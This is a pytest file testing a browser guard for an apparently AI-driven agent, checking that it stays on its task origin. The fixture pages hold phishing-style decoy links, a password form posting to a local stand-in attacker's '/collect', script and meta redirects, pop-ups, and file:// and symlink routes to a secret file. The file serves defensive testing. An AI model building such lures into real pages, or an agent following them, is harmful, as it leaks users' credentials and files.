"""The browser cannot be steered off its task: pages on the task's server (127.0.0.1) try every
route to an attacker's server (another port on 127.0.0.1) and the attacker's server counts what
reaches it. A decoy link, a form posting a password, a script redirect, a meta refresh, a
`window.open` pop-up, a `target=_blank` link, a pop-up that navigates later and a redirect by
the task's own server are each blocked before any request leaves the browser, recorded, and
reported in the step's Execution; navigation on the task's origin still works."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from pixelpilot.actions import Click, OpenApp, Task, Type, Wait
from pixelpilot.agent import run_episode
from pixelpilot.env.browser.env import BrowserEnv
from pixelpilot.env.httpserver import LocalServer
from pixelpilot.errors import ActionError
from tests.env.browser.support import PagePolicy, locate, open_env, page

pytestmark = pytest.mark.browser

SECRET = "correct-horse-battery-staple-7"
STYLE = "<style>body{margin:0;font:20px sans-serif} a,button,input{display:block;margin:20px;"
STYLE += "width:400px;height:60px;font-size:20px}</style>"


def pages(evil: str) -> dict[str, str]:
    """The task server's pages; `evil` is the attacker's base URL."""
    head = f"<!doctype html><html><head><meta charset='utf-8'>{STYLE}"
    return {
        "/decoy.html": f"{head}</head><body><p>Urgent: your session expired.</p>"
        f"<a id='decoy' href='{evil}/steal?from=decoy'>Click here to continue</a></body>",
        "/form.html": f"{head}</head><body><form method='post' action='{evil}/collect'>"
        "<input id='user' name='user'><input id='password' type='password' name='password'>"
        "<button id='submit'>Sign in</button></form></body>",
        "/script.html": f"{head}<script>setTimeout(() => location.href = "
        f"'{evil}/script?auto=1', 50)</script></head><body><p>Loading...</p>"
        f"<button id='go' onclick=\"location.assign('{evil}/script?click=1')\">Go</button>"
        "</body>",
        "/meta.html": f"{head}<meta http-equiv='refresh' content='0;url={evil}/meta'></head>"
        "<body><p>Redirecting...</p></body>",
        "/popup.html": f"{head}</head><body>"
        f"<button id='open' onclick=\"window.open('{evil}/popup')\">Open offer</button>"
        f"<a id='blank' target='_blank' href='{evil}/blank'>New window</a>"
        f"<button id='later' onclick=\"const w = window.open(); "
        f"setTimeout(() => w.location = '{evil}/later', 100)\">Later</button>"
        "<button id='mine' onclick=\"window.open('/next.html')\">Mine</button></body>",
        "/links.html": f"{head}</head><body><a id='next' href='/next.html'>Next</a>"
        "<a id='hop' href='/hop'>Via the task server</a></body>",
        "/next.html": f"{head}</head><body><p id='here'>Next page</p></body>",
    }


class TaskServer(LocalServer):
    """Serves `pages`; /go redirects to the attacker and /hop redirects to /go."""

    label = "task server"

    def __init__(self, evil: str) -> None:
        super().__init__()
        self.pages, self.evil = pages(evil), evil

    def build(self, address: tuple[str, int]) -> ThreadingHTTPServer:
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                target = {"/go": server.evil + "/redirected", "/hop": "/go"}.get(self.path)
                if target is not None:
                    self.send_response(302)
                    self.send_header("Location", target)
                    self.end_headers()
                    return
                body = server.pages.get(self.path)
                self.send_response(200 if body is not None else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write((body or "not found").encode())

            def log_message(self, format: str, *args: object) -> None:
                return

        return ThreadingHTTPServer(address, Handler)


class AttackerServer(LocalServer):
    """Answers anything with a page and counts every request it receives."""

    label = "attacker server"

    def __init__(self) -> None:
        super().__init__()
        self.requests: list[str] = []

    def build(self, address: tuple[str, int]) -> ThreadingHTTPServer:
        server = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                server.requests.append(f"{self.command} {self.path}")
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<h1>attacker</h1>")

            do_GET = do_POST = do_HEAD = answer

            def log_message(self, format: str, *args: object) -> None:
                return

        return ThreadingHTTPServer(address, Handler)


@pytest.fixture(scope="module")
def attacker() -> Iterator[AttackerServer]:
    with AttackerServer() as server:
        yield server


@pytest.fixture(scope="module")
def site(attacker: AttackerServer) -> Iterator[TaskServer]:
    with TaskServer(attacker.base_url) as server:
        yield server


@pytest.fixture(scope="module")
def env() -> Iterator[BrowserEnv]:
    environment = open_env()
    yield environment
    environment.close()


@pytest.fixture(autouse=True)
def nothing_reaches_the_attacker(attacker: AttackerServer) -> Iterator[None]:
    attacker.requests.clear()
    yield
    assert attacker.requests == [], "requests reached the attacker's server"


def start(env: BrowserEnv, site: TaskServer, path: str) -> str:
    url = site.base_url + path
    env.reset(task=Task(goal="stay on task", start_url=url))
    return url


def click(env: BrowserEnv, selector: str, *, blocks: int = 0) -> str:
    """Click the element; the Execution's detail, plus those of any waits needed until
    `blocks` navigations were blocked this episode (a page's own timers may fire late on a
    busy machine)."""
    execution = env.execute(Click(x=(p := locate(env, selector)).x, y=p.y))
    return execution.detail + until_blocked(env, blocks)


def until_blocked(env: BrowserEnv, count: int = 1, timeout: float = 10.0) -> str:
    """Wait in short steps until `count` navigations were blocked this episode (or
    `timeout` seconds passed); the details of those wait steps."""
    details, deadline = "", time.monotonic() + timeout
    while len(env.blocked_navigations) < count and time.monotonic() < deadline:
        details += env.execute(Wait(seconds=0.1)).detail
    return details


def only_block(env: BrowserEnv, attacker: AttackerServer, kind: str, path: str) -> str:
    """The episode's one blocked navigation is `kind` to the attacker's `path`; its line."""
    blocked = env.blocked_navigations
    assert [(b.kind, b.url) for b in blocked] == [(kind, attacker.base_url + path)], blocked
    assert blocked[0].origin == attacker.base_url
    return blocked[0].describe()


def test_a_decoy_link_is_blocked(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
) -> None:
    url = start(env, site, "/decoy.html")
    detail = click(env, "#decoy", blocks=1)
    line = only_block(env, attacker, "navigation", "/steal")
    assert line in detail and "?from" not in line
    assert page(env).url == url


def test_a_form_post_with_a_password_is_blocked(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
) -> None:
    url = start(env, site, "/form.html")
    click(env, "#password")
    env.execute(Type(text=SECRET))
    detail = click(env, "#submit", blocks=1)
    line = only_block(env, attacker, "form submission", "/collect")
    assert "(POST)" in line and line in detail and SECRET not in detail
    assert page(env).url == url
    assert page(env).input_value("#password") == SECRET, "the page stayed as it was"


def test_script_redirects_are_blocked(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
) -> None:
    url = start(env, site, "/script.html")  # redirects itself 50 ms after loading
    detail = until_blocked(env) + env.execute(Wait(seconds=0)).detail
    line = only_block(env, attacker, "navigation", "/script")
    assert detail.count(line) == 1, "a block during reset or between steps is reported next"
    detail = env.execute(Click(x=(p := locate(env, "#go")).x, y=p.y)).detail
    detail += until_blocked(env, 2)
    assert [b.kind for b in env.blocked_navigations] == ["navigation"] * 2
    assert env.blocked_navigations[1].describe() in detail
    assert page(env).url == url


def test_a_meta_refresh_is_blocked(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
) -> None:
    url = start(env, site, "/meta.html")
    detail = until_blocked(env) + env.execute(Wait(seconds=0)).detail
    assert detail.count(only_block(env, attacker, "navigation", "/meta")) == 1
    assert page(env).url == url


@pytest.mark.parametrize(("selector", "path"), [("#open", "/popup"), ("#blank", "/blank")])
def test_a_popup_to_another_origin_is_refused(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer, selector: str, path: str
) -> None:
    url = start(env, site, "/popup.html")
    detail = click(env, selector, blocks=1)
    assert only_block(env, attacker, "pop-up window", path) in detail
    env.execute(Wait(seconds=0.3))
    assert page(env).url == url, "the env did not adopt the pop-up"
    assert env.observe().url == url


def test_a_blank_popup_that_navigates_away_later_is_closed(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
) -> None:
    url = start(env, site, "/popup.html")
    click(env, "#later", blocks=1)
    only_block(env, attacker, "pop-up window", "/later")
    assert page(env).url == url
    session = env.session
    assert session is not None
    assert [p.url for p in page(env).context.pages if not p.is_closed()] == [url]


def test_a_redirect_by_the_tasks_own_server_is_blocked(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
) -> None:
    url = start(env, site, "/links.html")
    # /hop -> /go -> the attacker: two redirects by the task's own server
    detail = click(env, "#hop", blocks=1)
    assert only_block(env, attacker, "server redirect", "/redirected") in detail
    assert page(env).url == url


def test_open_app_to_another_origin_is_refused_and_recorded(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
) -> None:
    start(env, site, "/links.html")
    with pytest.raises(ActionError, match="not an allowed origin"):
        env.execute(OpenApp(name=attacker.base_url + "/opened?token=1"))
    only_block(env, attacker, "open_app", "/opened")


def test_the_tasks_own_origin_still_works(env: BrowserEnv, site: TaskServer) -> None:
    start(env, site, "/links.html")
    detail = env.execute(Click(x=(p := locate(env, "#next")).x, y=p.y)).detail
    assert page(env).url == site.base_url + "/next.html"
    assert "blocked" not in detail
    start(env, site, "/popup.html")
    env.execute(Click(x=(p := locate(env, "#mine")).x, y=p.y))
    deadline = time.monotonic() + 10
    while page(env).url != site.base_url + "/next.html" and time.monotonic() < deadline:
        env.execute(Wait(seconds=0.1))
    assert page(env).url == site.base_url + "/next.html", "a same-origin pop-up is adopted"
    assert env.blocked_navigations == []


def test_an_allowed_origin_is_reachable(attacker: AttackerServer, site: TaskServer) -> None:
    """The control: with the attacker's origin allowed, the same link reaches it, so the
    counting server does see what the guard lets through."""
    environment = open_env(allowed_origins=[attacker.base_url])
    try:
        start(environment, site, "/decoy.html")
        environment.execute(Click(x=(p := locate(environment, "#decoy")).x, y=p.y))
        deadline = time.monotonic() + 10
        while not attacker.requests and time.monotonic() < deadline:
            environment.execute(Wait(seconds=0.1))
        assert page(environment).url.startswith(attacker.base_url + "/steal")
        assert environment.blocked_navigations == []
        assert attacker.requests == ["GET /steal?from=decoy"]
    finally:
        environment.close()
        attacker.requests.clear()


def test_an_episode_records_each_blocked_navigation_on_its_step(
    env: BrowserEnv, site: TaskServer, attacker: AttackerServer
) -> None:
    steps = [
        lambda e, o: Click(x=locate(e, "#open").x, y=locate(e, "#open").y),
        lambda e, o: Click(x=locate(e, "#blank").x, y=locate(e, "#blank").y),
        *[lambda e, o: Wait(seconds=0.5)] * 3,
    ]
    task = Task(goal="stay on task", start_url=site.base_url + "/popup.html")
    trajectory = run_episode(env, PagePolicy(env, steps), task, max_steps=5)
    executed = " | ".join(step.executed or "" for step in trajectory.steps)
    lines = [b.describe() for b in env.blocked_navigations]
    assert [b.kind for b in env.blocked_navigations] == ["pop-up window"] * 2
    assert all(executed.count(line) == 1 for line in lines), executed
    assert executed.index(lines[0]) < executed.index(lines[1]) and "/popup" in lines[0]


def test_an_unreachable_allowed_origin_fails_at_once(site: TaskServer) -> None:
    """The guard fetches allowed navigations itself; when that fails the browser gets the
    request back and shows its own error, instead of the page waiting for the timeout."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        nowhere = f"http://127.0.0.1:{probe.getsockname()[1]}"
    environment = open_env(allowed_origins=[nowhere])
    try:
        start(environment, site, "/links.html")
        began = time.monotonic()
        execution = environment.execute(OpenApp(name=nowhere + "/x"))
        assert "ERR_CONNECTION_REFUSED" in execution.detail
        assert environment.blocked_navigations == []
        assert time.monotonic() - began < environment.config.call_timeout
    finally:
        environment.close()


def test_mode_requests_keeps_sub_resources_and_frames_home(
    site: TaskServer, attacker: AttackerServer
) -> None:
    """With navigation_guard="requests", a page's image and frame from the attacker's origin
    are refused too (the default mode lets sub-resources and frame pages load)."""
    site.pages["/embeds.html"] = (
        f"<!doctype html><body><img src='{attacker.base_url}/pixel.gif?u=1'>"
        f"<iframe src='{attacker.base_url}/frame'></iframe><p>page</p></body>"
    )
    environment = open_env(navigation_guard="requests")
    try:
        start(environment, site, "/embeds.html")
        until_blocked(environment, 2)
        kinds = sorted((b.kind, b.url) for b in environment.blocked_navigations)
        assert kinds == [
            ("frame navigation", attacker.base_url + "/frame"),
            ("request", attacker.base_url + "/pixel.gif"),
        ]
        assert page(environment).url == site.base_url + "/embeds.html"
    finally:
        environment.close()


def test_a_local_page_cannot_open_files_outside_its_folder(env: BrowserEnv, tmp_path: Path) -> None:
    # all file:// pages share one browser origin: the guard keeps a local start page to its
    # own real folder, so a page (or the model) cannot bring ~/.ssh or /etc onto the screen,
    # by a link, through a symbolic link placed in the folder, or embedded in a frame
    site, private = tmp_path / "site", tmp_path / "private"
    (site / "sub").mkdir(parents=True)
    private.mkdir()
    secret = private / "key.txt"
    secret.write_text(SECRET)
    (site / "inside-link.txt").symlink_to(secret)
    (site / "sub" / "next.html").write_text("<p id='next'>next page</p>")
    head = f"<!doctype html><html><head><meta charset='utf-8'>{STYLE}</head><body>"
    (site / "index.html").write_text(
        f"{head}<a id='out' href='{secret.as_uri()}'>Read me</a>"
        "<a id='sym' href='inside-link.txt'>Also me</a>"
        "<a id='in' href='sub/next.html'>Next</a></body>"
    )
    (site / "embed.html").write_text(
        f"{head}<iframe src='{secret.as_uri()}'></iframe><object data='inside-link.txt'>"
        f"</object><img src='{secret.as_uri()}'></body>"
    )
    outside = guard_origin(private)
    start_url = (site / "index.html").as_uri()
    for selector in ("#out", "#sym"):
        env.reset(task=Task(goal="stay in the folder", start_url=start_url))
        detail = click(env, selector, blocks=1)
        [blocked] = env.blocked_navigations
        assert (blocked.kind, blocked.origin) == ("navigation", outside)
        assert blocked.describe() in detail
        assert page(env).url == start_url and SECRET not in page(env).content()
    click(env, "#in")
    assert page(env).url == (site / "sub" / "next.html").as_uri()
    # embedded: each load of the outside file is refused, in the default mode too
    env.reset(task=Task(goal="look", start_url=(site / "embed.html").as_uri()))
    until_blocked(env, 3)
    assert {b.origin for b in env.blocked_navigations} == {outside}
    assert len(env.blocked_navigations) == 3
    frames = [f for f in page(env).frames if f is not page(env).main_frame]
    assert all(SECRET not in frame.content() for frame in frames)


def test_a_folder_start_page_allows_that_folder_not_its_parent(
    env: BrowserEnv, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (tmp_path / "key.txt").write_text(SECRET)
    env.reset(task=Task(goal="browse", start_url=site.as_uri()))
    assert env.allowed == frozenset({guard_origin(site)})
    with pytest.raises(ActionError, match=r"takes an http\(s\) URL"):
        env.execute(OpenApp(name=(tmp_path / "key.txt").as_uri()))


def guard_origin(folder: Path) -> str:
    return folder.resolve().as_uri() + "/"
